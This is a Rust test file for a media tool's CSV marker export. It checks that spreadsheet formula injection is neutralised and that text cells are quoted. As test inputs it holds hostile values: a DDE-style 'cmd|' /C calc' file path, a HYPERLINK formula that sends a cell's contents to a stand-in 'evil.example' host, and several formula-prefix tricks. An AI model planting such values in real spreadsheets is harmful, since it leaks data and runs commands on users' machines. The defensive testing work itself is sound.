//! CSV marker lists opened in a spreadsheet: text a person or a file name brought in (names,
//! notes, tags, paths) is never read as a formula (OWASP CSV injection), while the timecode
//! columns rushes writes itself stay as they are.

use std::path::Path;

use rushes_core::MediaInfo;
use rushes_export::{ExportItem, render_markers_csv, spreadsheet_text_cell};

fn item(path: &str) -> ExportItem {
    let media = MediaInfo {
        frame_rate: Some(25.0),
        start_timecode: Some("10:00:00:00".into()),
        duration: Some(60.0),
        ..MediaInfo::default()
    };
    ExportItem::new(Path::new(path), media, 1.0, 3.0)
}

/// The rows of an RFC 4180 document, each cell unquoted, with whether it was quoted.
fn parse_csv(text: &str) -> Vec<Vec<(String, bool)>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut in_quotes = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if in_quotes && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' if in_quotes => in_quotes = false,
            '"' if cell.is_empty() => (in_quotes, quoted) = (true, true),
            ',' if !in_quotes => row.push((std::mem::take(&mut cell), std::mem::take(&mut quoted))),
            '\r' if !in_quotes && chars.peek() == Some(&'\n') => {
                chars.next();
                row.push((std::mem::take(&mut cell), std::mem::take(&mut quoted)));
                rows.push(std::mem::take(&mut row));
            }
            other => cell.push(other),
        }
    }
    rows
}

/// Regression: a note `=HYPERLINK(…)` was written as is, and spreadsheets ran it.
#[test]
fn csv_markers_neutralise_formula_cells_from_names_notes_tags_and_paths() {
    let mut hostile = item("/a/=cmd|' /C calc'!A0.mov");
    hostile.name = "+1+1".into();
    hostile.notes = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
    hostile.tags = vec!["@SUM(1)".into(), "blooper".into()];
    let mut sneaky = item("/a/-x.mov");
    sneaky.name = "\tcmd".into();
    sneaky.notes = "\r=1+1".into();
    sneaky.tags = vec!["-2".into()];
    let text = render_markers_csv(&[hostile, sneaky]).expect("csv");
    let rows = parse_csv(&text);
    assert_eq!(rows.len(), 3, "{text:?}");

    // The first seven columns: name, in, out, duration, notes, tags, file (slate columns
    // follow, empty here).
    let first: Vec<&str> = rows[1][..7].iter().map(|(cell, _)| cell.as_str()).collect();
    assert_eq!(
        first,
        vec![
            "'+1+1",
            "10:00:01:00",
            "10:00:03:00",
            "00:00:02:00",
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "'@SUM(1); blooper",
            "/a/=cmd|' /C calc'!A0.mov",
        ]
    );
    let second: Vec<&str> = rows[2].iter().map(|(cell, _)| cell.as_str()).collect();
    assert_eq!(second[0], "'\tcmd");
    assert_eq!(second[4], "'\r=1+1");
    assert_eq!(second[5], "'-2");
    // A path starting with `-` is text too; an absolute path starts with `/` and is safe.
    assert_eq!(second[6], "/a/-x.mov");
    // Every neutralised cell is quoted; the timecodes rushes writes are not touched.
    for (cell, quoted) in rows[1].iter().chain(&rows[2]) {
        if cell.starts_with('\'') {
            assert!(quoted, "{cell:?} neutralised but not quoted");
        }
    }
    assert!(rows[1][1..4].iter().all(|(_, quoted)| !quoted));
}

/// A `;` or a tab inside a text cell would start a new cell in a spreadsheet set to that
/// separator (`take 3;=cmd`): such cells are quoted whole.
#[test]
fn spreadsheet_text_cells_are_quoted_when_a_separator_could_split_them() {
    assert_eq!(spreadsheet_text_cell("take 3;=cmd"), "\"take 3;=cmd\"");
    assert_eq!(spreadsheet_text_cell("a\t=b"), "\"a\t=b\"");
    assert_eq!(spreadsheet_text_cell("=1"), "\"'=1\"");
    assert_eq!(spreadsheet_text_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
    assert_eq!(spreadsheet_text_cell("plain take 3"), "plain take 3");
    assert_eq!(spreadsheet_text_cell(""), "");
}
